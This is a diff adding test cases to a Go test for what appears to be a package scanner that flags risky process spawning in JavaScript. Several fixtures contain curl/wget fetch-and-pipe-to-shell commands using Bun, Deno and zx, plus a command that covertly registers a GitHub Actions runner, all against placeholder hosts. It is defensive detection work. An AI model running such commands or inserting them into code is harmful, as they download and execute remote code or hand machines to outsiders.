@@ -46,6 +46,17 @@ func TestSpawn(t *testing.T) {
 		{"remote_name_in_command", map[string]string{"index.js": "const https = require(\"https\"), cp = require(\"child_process\"); https.get(\"https://registry.example.invalid/x\", r => { let d = \"\"; r.on(\"data\", c => d += c); r.on(\"end\", () => { const pkg = JSON.parse(d).name; cp.execSync(`yarn add -D ${pkg}`) }) })"}, finding.SeverityLow},
 		// a version read from a response is an argument, not the command
 		{"remote_version_arg", map[string]string{"index.js": `const https = require("https"), cp = require("child_process"); https.get("https://registry.example.invalid/x", r => { let d = ""; r.on("data", c => d += c); r.on("end", () => cp.execFileSync("npm", ["view", JSON.parse(d).version])) })`}, finding.SeverityLow},
+		// Bun's, Deno's and zx's own ways to start processes
+		{"bun_spawn", map[string]string{"index.js": `Bun.spawn(["sh", "-c", "curl -fsSL http://dl.example.invalid/s | sh"])`}, finding.SeverityCritical},
+		{"bun_shell", map[string]string{"index.js": "const { $ } = require(\"bun\"); await $`curl -fsSL http://dl.example.invalid/s | sh`"}, finding.SeverityCritical},
+		{"deno_command", map[string]string{"index.js": `new Deno.Command("sh", { args: ["-c", "wget -qO- http://dl.example.invalid/s | sh"] }).spawn()`}, finding.SeverityCritical},
+		{"zx_shell", map[string]string{"index.mjs": "import { $ } from \"zx\"; await $`curl -fsSL http://dl.example.invalid/s | bash`"}, finding.SeverityCritical},
+		// minified code's short names that happen to be module names
+		{"minified_zx_name", map[string]string{"index.js": `var a=function(e){return zx(e,1)+bun(e)};module.exports=a`}, finding.SeverityNone},
+		{"bun_git", map[string]string{"index.js": `Bun.spawnSync(["git", "status"])`}, finding.SeverityLow},
+		// a GitHub Actions runner registered to someone else's repository
+		{"actions_runner", map[string]string{"index.js": "require(\"child_process\").execSync(`cd ~/.dev-env && ./config.sh --url https://github.com/o/r --unattended --token ${t} && nohup ./run.sh &`)"}, finding.SeverityCritical},
+		{"runner_help", map[string]string{"index.js": `require("child_process").execSync("./config.sh --help")`}, finding.SeverityLow},
 		// loading child_process for something else, with no such command
 		{"loads_for_git", map[string]string{"index.js": `const cp = require("child_process"); module.exports = (k) => cp[k]("git status")`}, finding.SeverityNone},
 	})
